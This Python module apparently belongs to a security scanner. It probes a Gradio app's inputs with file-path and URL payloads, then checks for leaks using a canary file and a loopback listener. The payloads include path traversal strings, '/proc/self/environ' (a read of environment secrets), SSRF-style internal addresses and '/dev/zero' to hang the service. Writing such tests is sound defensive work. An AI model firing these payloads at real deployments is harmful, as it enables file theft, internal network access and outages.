"""Files and addresses put where the studio expects a number, a choice, a text or an upload of this visitor.

The requests are made of the studio's own configuration: every input of every function that the page calls.
Got through: the canary's content or the name of a copy of it comes back, the listener is connected to, or the
service stops answering.
"""

from __future__ import annotations

import contextlib
import re
import secrets
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
from target import Finding, Target

META = {"_type": "gradio.FileData"}
LANGUAGES = ("", "/zh")
ENOUGH = 20
"""Of one kind that got through: then the next is tried."""
NOT_SENT = ("state", "html", "tab", "button")
"""Kinds of components whose inputs a page does not fill in with a value of its own."""


class Canary:
    """A file that nobody but its maker knows, and a port of the loopback that nobody else connects to."""

    def __init__(self, folder: str) -> None:
        self.token = secrets.token_hex(16)
        self.path = Path(folder) / f"canary-{secrets.token_hex(8)}.txt"
        self.path.write_text(self.token)
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                self.connections += 1
                connection.close()

    def close(self) -> None:
        self._listener.close()

    def paths(self) -> dict[str, list[str]]:
        """What is sent as a path, by the name of the attack."""
        path, address = str(self.path), f"127.0.0.1:{self.port}"
        return {
            "a file of the server": [
                path, f"file://{path}", "../" * 12 + path.lstrip("/"), path.replace("/", "%2F"),
                f"/tmp/..{path}", "/proc/self/environ",
            ],
            "an address of the network": [
                f"http://{address}/a.png", f"https://{address}/a.png", f"//{address}/a.png",
                f"/gradio_api/file=http://{address}/a.png", f"ftp://{address}/a.png",
            ],
            "a device without an end": ["/dev/zero"],
        }  # fmt: skip

    def reached(self, text: str, client: httpx.Client) -> bool:
        """Whether an answer carries the canary, or the name of a copy of it that can be fetched."""
        if self.token in text or self.connections:
            return True
        copies = set(re.findall(r"[^\s\"'\\=]*" + re.escape(self.path.name), text)) - {str(self.path)}
        fetched = [client.get(f"/gradio_api/file={copy}") for copy in copies]
        return any(self.token in one.text for one in fetched)


def shapes(path: str) -> list[Any]:
    """The objects that Gradio, or an older one, takes for a file."""
    return [
        {"path": path, "meta": META},
        {"path": path, "url": path, "orig_name": "a.png", "size": 9, "mime_type": "image/png", "meta": META},
        [{"path": path, "meta": META}],
        {"value": {"deeper": [{"path": path, "meta": META, "is_stream": False}]}},
        {"name": path, "data": None, "is_file": True, "meta": META},
    ]  # fmt: skip


def calls(client: httpx.Client) -> list[tuple[dict[str, Any], list[Any], int]]:
    """Each function of the page, the values that the page sends at first, and the place of each input."""
    config = client.get("/config").json()
    components = {one["id"]: one for one in config["components"]}
    found = []
    for function in config["dependencies"]:
        inputs = [components[one] for one in function["inputs"]]
        values = [None if one["type"] in NOT_SENT else one["props"].get("value") for one in inputs]
        found += [(function, values, at) for at, one in enumerate(inputs) if one["type"] not in NOT_SENT]
    return found


def answered(
    client: httpx.Client, function: dict[str, Any], data: list[Any], queued: bool, **more: Any
) -> str:
    """What comes back, by the queue or straight."""
    session = secrets.token_hex(6)
    body = {"data": data, "fn_index": function["id"], "session_hash": session, **more}
    if not queued:
        return client.post("/gradio_api/run/predict", json=body).text
    joined = client.post("/gradio_api/queue/join", json=body)
    if joined.status_code != 200:
        return joined.text
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        told = ""
        for line in stream.iter_lines():
            told += line
            if "process_completed" in line or "unexpected_error" in line:
                break
    return told


def attack(target: Target) -> Iterator[Finding]:
    """Devices come last: a service that opens one may never answer again."""
    with tempfile.TemporaryDirectory() as folder, contextlib.closing(Canary(folder)) as canary:
        for name, paths in canary.paths().items():
            tried, through = 0, 0
            detail = ""
            for language in LANGUAGES:
                for sent in _sent(target, language, paths, canary) if through < ENOUGH else ():
                    tried += 1
                    if sent:
                        through += 1
                        detail = detail or sent
                    if through >= ENOUGH:
                        break
            yield Finding(f"{name} in an input of the studio", tried, through, detail)


def _sent(target: Target, language: str, paths: list[str], canary: Canary) -> Iterator[str]:
    """For each request what got through, in words; empty for nothing."""
    with httpx.Client(base_url=target.url + language, timeout=20) as client:
        if client.get("/config").status_code != 200:
            return
        for number, (function, values, place) in enumerate(calls(client)):
            # Every input gets the first path in the first shape; other paths and shapes take turns.
            others = paths[1:] and [paths[1 + number % (len(paths) - 1)]]
            for turn, path in enumerate([paths[0], *others]):
                some = shapes(path)
                file = some[number // max(1, len(paths) - 1) % len(some) if turn else 0]
                data = [*values[:place], file, *values[place + 1 :]]
                event = {"event_data": {"index": file, "value": file}} if number % 2 else {}
                queued = bool(function["queue"]) or turn % 2 == 1
                yield _one(client, function, data, queued, canary, path, target, **event)


def _one(
    client: httpx.Client, function: dict[str, Any], data: list[Any], queued: bool, canary: Canary, path: str,
    target: Target, **event: Any,
) -> str:  # fmt: skip
    where = f"{path} to function {function['id']}, {'queued' if queued else 'straight'}"
    try:
        text = answered(client, function, data, queued, **event)
    except httpx.HTTPError as error:
        return "" if target.alive() else f"{where}: {type(error).__name__}, and health no longer answers"
    if canary.reached(text, client):
        canary.connections = 0
        return f"{where}: {text[:200]}"
    return ""
